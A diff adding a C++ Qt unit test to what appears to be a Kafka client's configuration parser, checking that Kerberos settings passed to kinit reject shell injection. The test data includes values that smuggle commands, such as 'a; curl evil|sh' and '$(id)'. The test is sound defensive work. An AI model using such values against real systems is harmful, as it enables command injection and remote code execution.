@@ -54,6 +54,26 @@ private slots:
         QVERIFY(form.further.isEmpty());
     }
 
+    // librdkafka writes these into a command line for kinit.
+    void whatAShellCouldReadIsRefused() {
+        for (const char* setting : {"sasl.kerberos.principal=a; curl evil|sh", "sasl.kerberos.keytab=/x$(id)", "sasl.kerberos.service.name=kafka`id`", "sasl.kerberos.principal=-S"})
+            QVERIFY2(!parsePasted(u"bootstrap.servers=a:1\nsecurity.protocol=SASL_SSL\n"_qs + QLatin1String(setting)), setting);
+        client::ClientConfig config;
+        config.bootstrapServers = u"a:1"_qs;
+        config.set(u"sasl.kerberos.principal"_qs, u"a; curl evil|sh"_qs);
+        QCOMPARE(config.check().error().what, u"sasl.kerberos.principal"_qs); // from a file of the command line, too
+        ConnectionForm form;
+        form.servers = u"a:1"_qs;
+        form.protocol = Protocol::SaslTls;
+        form.mechanism = Mechanism::Kerberos;
+        form.kerberosKeytab = u"/etc/krb5.keytab"_qs;
+        QCOMPARE(fieldsOf(configOf(form)), QStringList{u"kerberosPrincipal"_qs});
+        form.kerberosPrincipal = u"kafka/host-1.example.org@EXAMPLE.ORG"_qs;
+        QVERIFY(configOf(form).problems.isEmpty());
+        form.kerberosPrincipal = u"a b"_qs;
+        QVERIFY(fieldsOf(configOf(form)).contains(u"kerberosPrincipal"_qs));
+    }
+
     void javaMskIam() {
         const auto text = pasted(u"bootstrap.servers=b-1.demo.abc123.c2.kafka.eu-west-1.amazonaws.com:9098\nsecurity.protocol=SASL_SSL\nsasl.mechanism=AWS_MSK_IAM\n"
                                  "sasl.jaas.config=software.amazon.msk.auth.iam.IAMLoginModule required awsProfileName=\"work\";\n"
